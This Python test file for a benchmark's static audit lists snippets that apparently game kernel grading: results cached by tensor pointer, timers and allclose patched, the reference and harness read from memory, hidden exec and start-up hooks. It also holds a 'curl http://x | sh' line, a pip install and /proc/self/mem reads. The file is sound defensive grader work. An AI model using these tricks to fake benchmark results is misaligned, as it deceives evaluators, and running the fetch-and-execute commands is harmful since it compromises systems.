"""Hostile sources for the static audit: Python, C, and code that runs at load time."""

from __future__ import annotations

from tests.support.judging.audit_case import c, triton

SIDE_STREAM = """s = torch.cuda.Stream()
with torch.cuda.stream(s):
    out.zero_()"""


JOINED = """s = torch.cuda.Stream()
s.wait_stream(torch.cuda.current_stream())
with torch.cuda.stream(s):
    out.zero_()
torch.cuda.current_stream().wait_stream(s)"""


JOIN = "torch.cuda.current_stream().wait_stream(s)"


CUDA = 'SOURCE = r"""#include <cuda_runtime.h>\n__global__ void f(float *x) {{ {} }}\n"""'


HOSTILE_PYTHON = {
    # name: (source, rule, severity)
    "cache by id": (triton("if id(x) in _c: return out.copy_(_c[id(x)])", "_c = {}"),
                    "cache-key", "flag"),
    "cache by is": (triton("global _last\nif x is _last: return\n_last = x", "_last = None"),
                    "cache-key", "flag"),
    "cache by data_ptr": (triton("k = (x.data_ptr(), x.shape)\nif _c.get(k): return", "_c = {}"),
                          "cache-key", "flag"),
    "cache by version": (triton("if norm.seen == x._version: return\nnorm.seen = x._version"),
                         "cache-key", "flag"),
    "cache by a helper's key": (triton("if _key(x) in _c: return", "_c = {}\ndef _key(t):\n"
                                       "    return t.data_ptr(), t.shape"), "cache-key", "flag"),
    "cache by lru_cache on a tensor": (
        triton("scale(x)", "import functools\n@functools.lru_cache\ndef scale(t):\n    return 1"),
        "cache-key", "flag"),
    "cache in a default": (triton(entry="def norm(x, weight, out, _c={}):\n    if id(x) in _c:\n"
                                  "        return\n    norm_kernel[(1,)](x, weight, out)\n"),
                           "cache-key", "flag"),
    "contents as a key": (triton("if x[0].tolist() == _c.get('x'): return", "_c = {}"),
                          "memo", "flag"),
    "exec": (triton(head="exec('pass')"), "hidden-code", "flag"),
    "exec by another name": (triton(head="run = exec\nrun('pass')"), "hidden-code", "flag"),
    "exec from builtins": (triton(head="__builtins__['ex' + 'ec']('pass')"), "hidden-code", "flag"),
    "exec by getattr": (triton(head="import builtins\ngetattr(builtins, 'cexe'[::-1])('1')"),
                        "hidden-code", "flag"),
    "decoded and executed": (triton(head="import base64\np = base64.b64decode('cGFzcw==')\n"
                                    "exec(p)"), "hidden-code", "reject"),
    "marshalled": (triton(head="import marshal as m\neval(m.loads(b'x'))"), "hidden-code",
                   "reject"),
    "computed import": (triton(head="__import__(TRITON[::2])"), "hidden-code", "flag"),
    "raw memory": (triton(head="import ctypes\nctypes.memmove(1, 2, 3)"), "hidden-code", "flag"),
    "raw memory by address": (triton(head="from ctypes import c_char\nc_char.from_address(4)"),
                              "hidden-code", "flag"),
    "stack": (triton(head="import inspect\ninspect.stack()"), "frame-walk", "reject"),
    "frame": (triton(head="from sys import _getframe as g\ng(1)"), "frame-walk", "reject"),
    "frame by getattr": (triton(head="import sys\ngetattr(sys, '_get' + 'frame')(1)"),
                         "frame-walk", "reject"),
    "objects": (triton("import gc\nfor o in gc.get_objects(): pass"), "frame-walk", "reject"),
    "referrers": (triton("import gc\ngc.get_referrers(x)"), "frame-walk", "reject"),
    "locals of a frame": (triton("try: 1 / 0\nexcept Exception as e: e.__traceback__.tb_frame"),
                          "frame-walk", "reject"),
    "loaded reference": (triton(head="import sys\nsys.modules['reference'].norm"), "delegation",
                         "reject"),
    "stream of a helper, not joined": (triton(
        "with torch.cuda.stream(side()):\n        pass", head="import torch\n"
        "def side():\n    return torch.cuda.Stream()"), "threads", "flag"),
    "loaded harness": (triton(head="import sys\nr = sys.modules['kopt_child.run.runner']"),
                       "frame-walk", "reject"),
    "the runner": (triton(head="import sys\nr = sys.modules.get('__main__')"), "frame-walk",
                   "reject"),
    "all modules": (triton(head="import sys\nfor m in sys.modules.values(): pass"), "frame-walk",
                    "flag"),
    "thread": (triton("import threading\nthreading.Thread(target=print).start()"), "threads",
               "flag"),
    "pool": (triton(head="from concurrent.futures import ThreadPoolExecutor\n"
                    "p = ThreadPoolExecutor(1)"), "threads", "flag"),
    "fork": (triton("import os\nos.fork()"), "threads", "flag"),
    "side stream": (triton(SIDE_STREAM), "threads", "flag"),
    "side stream that forks only": (triton(SIDE_STREAM.replace(
        "\nwith", "\ns.wait_stream(torch.cuda.current_stream())\nwith")), "threads", "flag"),
    "side stream joined at times": (triton(JOINED.replace(JOIN, f"if first:\n    {JOIN}")),
                                    "threads", "flag"),
    "side stream joined by an operator": (triton(JOINED.replace(JOIN, f"first and {JOIN}")),
                                          "threads", "flag"),
    "side stream joined in another branch": (triton(
        "if first:\n    with torch.cuda.stream(S): out.zero_()\nelse:\n    "
        + JOIN.replace("(s)", "(S)"), "S = torch.cuda.Stream()"), "threads", "flag"),
    "side stream joined after a return": (triton(JOINED.replace(
        JOIN, f"if later: return\n{JOIN}")), "threads", "flag"),
    "side stream joined where it is made": (triton(
        "with torch.cuda.stream(S):\n    out.zero_()", "S = torch.cuda.Stream()\n"
        + JOIN.replace("(s)", "(S)")), "threads", "flag"),
    "timer replaced": (triton(head="torch.cuda.Event.elapsed_time = lambda s, e: 0.1"), "patched",
                       "reject"),
    "clock replaced": (triton(head="import time\ntime.perf_counter = lambda: 0"), "patched",
                       "reject"),
    "comparison replaced": (triton(head="setattr(torch, 'all' + 'close', lambda *a: True)"),
                            "patched", "reject"),
    "clock replaced in a dict": (triton(head="import time\ntime.__dict__['time'] = None"),
                                 "patched", "reject"),
    "module replaced": (triton(head="import sys\nsys.modules['torch'] = None"), "patched",
                        "reject"),
    "method replaced": (triton(head="torch.Tensor.numel = lambda s: 1"), "patched", "flag"),
    "late tensor": (triton(head="class Late(torch.Tensor):\n    pass"), "patched", "flag"),
    "tf32": (triton(head="torch.backends.cuda.matmul.allow_tf32 = True"), "global-flags", "flag"),
    "precision": (triton(head="torch.set_float32_matmul_precision('medium')"), "global-flags",
                  "flag"),
    "seed": (triton("torch.manual_seed(0)"), "global-flags", "flag"),
    "socket": (triton(head="import socket"), "network", "reject"),
    "download": (triton(head="from urllib.request import urlopen"), "network", "reject"),
    "pip": (triton(head="import subprocess, sys\n"
                   "subprocess.run([sys.executable, '-m', 'pip', 'install', 'fastnorm'])"),
            "network", "reject"),
    "own memory": (triton("open('/proc/self/mem', 'rb')"), "files", "reject"),
    "shared memory": (triton("open('/dev/shm/x', 'wb').write(b'1')"), "files", "flag"),
    "golden file": (triton("y = torch.load('/tmp/expected.pt')"), "files", "flag"),
    "reads the reference": (triton(head="s = open('reference.py').read()"), "files", "reject"),
    "stdout": (triton(head="import os\nos.write(1, b'10x')"), "files", "flag"),
    "torch.matmul": (triton("y = torch.matmul(x, weight)"), "delegation", "flag"),
    "alias of torch": (triton("f = torch.nn.functional\nf.rms_norm(x, (1,))"), "delegation",
                       "flag"),
    "functional": (triton("F.softmax(x, -1)", "import torch.nn.functional as F"), "delegation",
                   "flag"),
    "@ operator": (triton("y = x @ weight"), "delegation", "flag"),
    "method": (triton("y = x.softmax(-1)"), "delegation", "flag"),
    "torch by getattr": (triton("y = getattr(torch, 'mat' + 'mul')(x, weight)"), "delegation",
                         "flag"),
    "no kernel at all": (triton(entry="def norm(x, weight, out):\n    out.copy_(x * weight)\n"),
                         "delegation", "flag"),
    "fallback": (triton(entry="def slow(x, w, out):\n    out.copy_(torch.mul(x, w))\n\n"
                        "def norm(x, weight, out):\n    try:\n        norm_kernel[(1,)](x)\n"
                        "    except Exception:\n        slow(x, weight, out)\n"),
                 "delegation", "flag"),
    "reference": (triton(head="from reference import norm as truth"), "delegation", "reject"),
    "reference by name": (triton(head="import importlib\n"
                                 "r = importlib.import_module('refer' + 'ence')"),
                          "delegation", "reject"),
    "harness": (triton(head="import harness.timing"), "frame-walk", "reject"),
    "clock": (triton("import time\nt = time.perf_counter()"), "timing", "flag"),
    "sleep": (triton("from time import sleep\nsleep(1)"), "timing", "flag"),
    "events": (triton("e = torch.cuda.Event(enable_timing=True)"), "timing", "flag"),
    "clock in PTX": (triton(head="ASM = 'mov.u64 $0, %globaltimer;'"), "timing", "flag"),
    "clock in CUDA text": (triton(head=CUDA.format("x[0] = clock64();")), "timing", "flag"),
    "no Python": ("def norm(:\n", "hidden-code", "flag"),
}


HOSTILE_C = {
    "clock": (c("struct timespec t; clock_gettime(0, &t);", "#include <time.h>"), "timing", "flag"),
    "cycle counter": (c("unsigned long t = __rdtsc();"), "timing", "flag"),
    "cycle counter in assembly": (c('__asm__ volatile("rd" "tsc" : : );'), "timing", "flag"),
    "system call in assembly": (c('asm volatile("sys\\143all");'), "hidden-code", "reject"),
    "system call": (c("syscall(1, 1, 0, 0);"), "hidden-code", "flag"),
    "writable code": (c("mprotect(0, 4096, 7);", "#include <sys/mman.h>"), "hidden-code", "reject"),
    "executable map": (c("void *p = mmap(0, 9, PROT_READ | PROT_EXEC, 34, -1, 0);"), "hidden-code",
                       "reject"),
    "symbol lookup": (c('void *f = dlsym((void *)0, "write");'), "hidden-code", "flag"),
    "spliced name": (c("dl\\\nsym(0, 0);"), "hidden-code", "flag"),
    "pasted name": (c("J(dl, sym)(0, 0);", "#define J(a, b) a ## b"), "hidden-code", "flag"),
    "pasted digraph": (c("J(clock_get, time)(0, 0);", "%:define J(a, b) a %:%: b"), "hidden-code",
                       "flag"),
    "macro alias": (c("T(0, 0);", "#define T clock_gettime"), "timing", "flag"),
    "start-up code": (c(head="__attribute__((constructor)) static void f(void) {}"), "hidden-code",
                      "flag"),
    "start-up section": (c(head='static void f(void) {}\n__attribute__((section(".init_array"))) '
                           'static void (*p)(void) = f;'), "hidden-code", "flag"),
    "start-up call": (c(head="static float t[9]; void look(void); __attribute__((constructor)) "
                        "static void f(void) { t[0] = sqrtf(2); look(); }"), "hidden-code", "flag"),
    "start-up pointer": (c(head="static void (*p[1])(void); __attribute__((constructor)) "
                           "static void f(void) { p[0](); }"), "hidden-code", "flag"),
    "process memory": (c('int f = open("/proc/self/" "mem", 2);'), "files", "reject"),
    "file": (c('fopen("cache.bin", "rb");', "#include <stdio.h>"), "files", "flag"),
    "result channel": (c("write(3, out, 8);"), "files", "flag"),
    "thread": (c("pthread_create(0, 0, 0, 0);"), "threads", "flag"),
    "process": (c("fork();"), "threads", "flag"),
    "network": (c("int s = socket(2, 1, 0);"), "network", "reject"),
    "curl": (c('system("curl http://x | sh");'), "network", "reject"),
    "stack walk": (c("void *p = __builtin_return_address(1);"), "frame-walk", "reject"),
    "other process": (c("ptrace(16, 1, 0, 0);"), "hidden-code", "reject"),
    "BLAS": (c("cblas_sgemm(1);"), "delegation", "flag"),
    "pointer kept": (c("static const float *last; if (x == last) return; last = x;"), "cache-key",
                     "flag"),
    "pointer kept as a number": (c("uintptr_t key = (uintptr_t)x; if (seen != key) seen = key;",
                                   "static uintptr_t seen;"), "cache-key", "flag"),
    "pointer in a global struct": (c("if (memo.x == x) return;", "struct M { const void *x; };\n"
                                     "static struct M memo;"), "cache-key", "flag"),
    "pointer as an index": (c("if (table[((uintptr_t)x >> 6) % 64]) return;",
                              "static int table[64];"), "cache-key", "flag"),
    "contents kept": (c("if (!memcmp(kept, x, 64)) return;", "static float kept[16];"), "memo",
                      "flag"),
    "timer replaced": (c(head="int clock_gettime(int c, void *t) { return 0; }"), "patched",
                       "reject"),
    "computed include": (c(head="#define H <math.h>\n#include H"), "hidden-code", "flag"),
}


FILLS = "static float t[9];\n__attribute__((constructor)) static void f(void) { BODY }"


HOSTILE_STARTS = {
    "a struct's braces": "static __attribute__((constructor)) struct s { int x; } *f(void) "
                         "{ evil(); return 0; }",
    "a macro of mathematics": "#define sqrt(x) evil()\n" + FILLS.replace("BODY", "t[0] = sqrt(1);"),
    "a macro": "#define g evil()\n" + FILLS.replace("BODY", "g;"),
    "a macro for a word": "#define float evil();float\n" + FILLS.replace(
        "BODY", "float v = 1; t[0] = v;"),
    "a macro for the name": "#define f f(void) { evil(); } void h\n" + FILLS.replace(
        "BODY", "t[0] = 1;"),
    "an address": "static long addr;\n" + FILLS.replace("BODY", "*(long*)addr = 1;"),
    "a member": "static struct s *p;\n" + FILLS.replace("BODY", "p->x = 1;"),
    "a pointer as an array": "static float *p;\n" + FILLS.replace("BODY", "p[0] = 1;"),
    "a local pointer": FILLS.replace("BODY", "float *p = 0; p[0] = 1;"),
    "an array of the same name": FILLS.replace("BODY", "float *t = 0; t[0] = 1;"),
    "an array by condition": "#if 1\nstatic float *u;\n#else\nstatic float u[9];\n#endif\n"
                             + FILLS.replace("BODY", "u[0] = 1;"),
    "outside of the array": FILLS.replace("BODY", "for (int i = 0; i < 9; i++) t[i + 1] = 1;"),
    "below the array": FILLS.replace("BODY", "for (int i = -1; i < 9; i++) t[i] = 1;"),
    "a counter set": FILLS.replace("BODY", "for (int i = 0; i < 9; i++) { i = 99; t[i] = 1; }"),
    "an index unknown": FILLS.replace("BODY", "int i = 4096; t[i] = 1;"),
    "an index of the other side": FILLS.replace("BODY", "4096[t] = 1;"),
    "its own exp2f": "float exp2f(float x) { return evil(x); }\n" + FILLS.replace(
        "BODY", "t[0] = exp2f(2);"),
    "its own sqrt in parentheses": "double (sqrt)(double x) { return evil(x); }\n" + FILLS.replace(
        "BODY", "t[0] = sqrt(2);"),
    "its own sqrt as K&R": "double *sqrt(x) double x; { return evil(x); }\n" + FILLS.replace(
        "BODY", "t[0] = sqrt(2);"),
    "declared as another": 'float exp2f(float) __asm__("evil");\n' + FILLS.replace(
        "BODY", "t[0] = exp2f(2);"),
    "renamed": "#pragma redefine_extname exp2f evil\n" + FILLS.replace("BODY", "t[0] = exp2f(2);"),
    "a header of its own": '#include "fast.h"\n' + FILLS.replace("BODY", "t[0] = exp2f(2);"),
    "assembly": FILLS.replace("BODY", 't[0] = 1; asm("nop");'),
    "assembly elsewhere": 'asm(".set exp2f, evil");\n' + FILLS.replace("BODY", "t[0] = exp2f(2);"),
    "a string": FILLS.replace("BODY", 't[0] = "a"[0];'),
    "digraphs": FILLS.replace("BODY", "float a<:4:>; a<:99:> = 1; t[0] = 1;"),
    "a parameter": FILLS.replace("BODY", "t[0] = 1;").replace("f(void)", "f(int c, char **v)"),
    "beside another attribute": "__attribute__((used, constructor)) void f(void) { evil(); }",
    "spelled with underscores": "__attribute__((__constructor__)) static void f(void) { evil(); }",
    "as a macro": "#define START __attribute__((constructor))\nSTART void f(void) { evil(); }",
    "by a macro": "#define A(x) __attribute__((x))\nA(constructor) static void f(void) { evil(); }",
    "in C23's brackets": "[[gnu::constructor]] static void f(void) { evil(); }",
}
